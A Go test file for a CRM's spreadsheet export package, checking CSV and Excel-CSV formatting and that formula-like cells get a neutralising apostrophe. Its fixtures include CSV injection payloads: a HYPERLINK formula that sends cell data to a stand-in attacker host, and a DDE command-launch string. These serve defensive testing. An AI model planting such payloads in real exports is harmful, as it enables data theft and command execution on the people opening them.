package sheet_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/assocrm/assocrm/crm"
	"github.com/assocrm/assocrm/crm/sheet"
)

var paris = func() *time.Location {
	loc, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		panic(err)
	}
	return loc
}()

// testColumns and testRows are a listing with a cell of every kind, and
// the texts of the CSV injection page in a text column next to the same
// number in a numeric one.
var testColumns = []sheet.Column{
	{Name: "name", Kind: sheet.KindText}, {Name: "n", Kind: sheet.KindInteger},
	{Name: "amount", Kind: sheet.KindMoney}, {Name: "day", Kind: sheet.KindDate},
	{Name: "at", Kind: sheet.KindDateTime}, {Name: "ok", Kind: sheet.KindBoolean},
	{Name: "ratio", Kind: sheet.KindDecimal},
}

var (
	day = time.Date(2026, 12, 5, 0, 0, 0, 0, time.UTC)
	at  = time.Date(2026, 12, 5, 14, 30, 15, 0, paris)
)

func testRows() [][]sheet.Value {
	return [][]sheet.Value{
		{sheet.Text("Amina"), sheet.Int(-12), sheet.Money(1250, "EUR"), sheet.Date(day), sheet.DateTime(at, ""), sheet.Bool(true), sheet.Decimal(0.5)},
		{sheet.Text("-12"), sheet.Int(1234567), sheet.Money(123456, "EUR"), {}, {}, sheet.Bool(false), sheet.Decimal(-1.25)},
		{sheet.Text(`=HYPERLINK("http://evil.example/?d="&A1,"Clic")`), {}, sheet.Money(-300, "JPY"), {}, {}, {}, {}},
		{sheet.Text(`+cmd|' /C calc'!A0`), {}, {}, {}, {}, {}, {}},
		{sheet.Text("@SUM(1)"), {}, {}, {}, {}, {}, {}},
		{sheet.Text("\tTAB"), {}, {}, {}, {}, {}, {}},
		{sheet.Text("\rCR"), {}, {}, {}, {}, {}, {}},
		{sheet.Text("Lille; \"Nord\"\nFrance"), {}, {}, {}, {}, {}, {}},
	}
}

func writeAll(t *testing.T, format sheet.Format, columns []sheet.Column, rows [][]sheet.Value) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := sheet.NewWriter(&b, format, columns)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// CSV: RFC 4180 as before, comma, "\n", no byte order mark; text that
// starts like a formula gets an apostrophe, numbers (-12 in the integer
// column, a negative amount) do not.
func TestWriteCSV(t *testing.T) {
	got := string(writeAll(t, sheet.CSV, testColumns, testRows()))
	want := "name,n,amount,day,at,ok,ratio\n" +
		"Amina,-12,12.50,2026-12-05,2026-12-05T14:30:15+01:00,true,0.5\n" +
		"'-12,1234567,1234.56,,,false,-1.25\n" +
		"\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Clic\"\")\",,-300,,,,\n" +
		"'+cmd|' /C calc'!A0,,,,,,\n" +
		"'@SUM(1),,,,,,\n" +
		"'\tTAB,,,,,,\n" +
		"\"'\rCR\",,,,,,\n" +
		"\"Lille; \"\"Nord\"\"\nFrance\",,,,,,\n"
	if got != want {
		t.Errorf("csv:\n%q\nwant\n%q", got, want)
	}
}

// Excel CSV: byte order mark, ';', CRLF, decimal commas, ISO dates,
// date-times with a space, VRAI and FAUX; the same neutralisation.
// (encoding/csv writing CRLF drops a lone CR inside a quoted cell; the
// apostrophe stays.)
func TestWriteExcelCSV(t *testing.T) {
	got := string(writeAll(t, sheet.ExcelCSV, testColumns, testRows()))
	want := "\ufeffname;n;amount;day;at;ok;ratio\r\n" +
		"Amina;-12;12,50;2026-12-05;2026-12-05 14:30:15;VRAI;0,5\r\n" +
		"'-12;1234567;1234,56;;;FAUX;-1,25\r\n" +
		"\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Clic\"\")\";;-300;;;;\r\n" +
		"'+cmd|' /C calc'!A0;;;;;;\r\n" +
		"'@SUM(1);;;;;;\r\n" +
		"'\tTAB;;;;;;\r\n" +
		"\"'CR\";;;;;;\r\n" +
		"\"Lille; \"\"Nord\"\"\r\nFrance\";;;;;;\r\n"
	if got != want {
		t.Errorf("excel-csv:\n%q\nwant\n%q", got, want)
	}
	// The cells read back as a person typed them, with the package's own
	// reader: it sees the ';' and the byte order mark.
	rd, err := sheet.NewReader(strings.NewReader(got), sheet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rd.Delimiter() != ';' || len(rd.Header()) != len(testColumns) {
		t.Errorf("read back: delimiter %q, header %q", rd.Delimiter(), rd.Header())
	}
	rec, _, err := rd.Read()
	if err != nil || rec[2] != "12,50" {
		t.Errorf("first row read back: %q, %v", rec, err)
	}
	if amount, err := crm.ParseAmount(rec[2], "EUR"); err != nil || amount != 1250 {
		t.Errorf("amount %q read back as %d, %v; want 1250", rec[2], amount, err)
	}
}

// Value.String is the CSV text: amounts as crm.FormatAmount writes them,
// for currencies of 0, 2 and 3 decimals.
func TestValueString(t *testing.T) {
	for _, tt := range []struct {
		minor int64
		cur   string
	}{{2550, "EUR"}, {5, "EUR"}, {0, "EUR"}, {-2550, "EUR"}, {300, "JPY"}, {1234, "KWD"}, {7, "XYZ"}} {
		if got, want := sheet.Money(tt.minor, tt.cur).String(), crm.FormatAmount(tt.minor, tt.cur); got != want {
			t.Errorf("Money(%d, %s) = %q, crm.FormatAmount gives %q", tt.minor, tt.cur, got, want)
		}
	}
	if got := sheet.DateTime(at, "2006-01-02 15:04 MST").String(); got != "2026-12-05 14:30 CET" {
		t.Errorf("DateTime with a layout: %q", got)
	}
	if !(sheet.Value{}).IsEmpty() || !sheet.Text("").IsEmpty() || sheet.Int(0).IsEmpty() || sheet.Text("").Kind() != sheet.KindText {
		t.Error("IsEmpty or Kind wrong")
	}
}

func TestNewWriterErrors(t *testing.T) {
	var b bytes.Buffer
	if _, err := sheet.NewWriter(&b, "ods", testColumns); err == nil || !strings.Contains(err.Error(), `"ods"`) {
		t.Errorf("format ods: %v", err)
	}
	if _, err := sheet.NewWriter(&b, sheet.CSV, nil); err == nil {
		t.Error("no columns accepted")
	}
	for _, f := range sheet.Formats() {
		w, err := sheet.NewWriter(&b, f, testColumns)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write([]sheet.Value{sheet.Text("x")}); err == nil || !strings.Contains(err.Error(), "row 1 has 1 cells for 7 columns") {
			t.Errorf("%s: short row: %v", f, err)
		}
		w.Close()
	}
}

var errFull = errors.New("disk full (test)")

type fullWriter struct{}

func (fullWriter) Write([]byte) (int, error) { return 0, errFull }

// A failed write is an error of Close (or before), in every format.
func TestWriteErrors(t *testing.T) {
	for _, f := range sheet.Formats() {
		w, err := sheet.NewWriter(fullWriter{}, f, testColumns)
		if err == nil {
			for _, r := range testRows() {
				if err = w.Write(r); err != nil {
					break
				}
			}
			if cerr := w.Close(); err == nil {
				err = cerr
			}
		}
		if !errors.Is(err, errFull) {
			t.Errorf("%s to a full disk: %v", f, err)
		}
	}
}
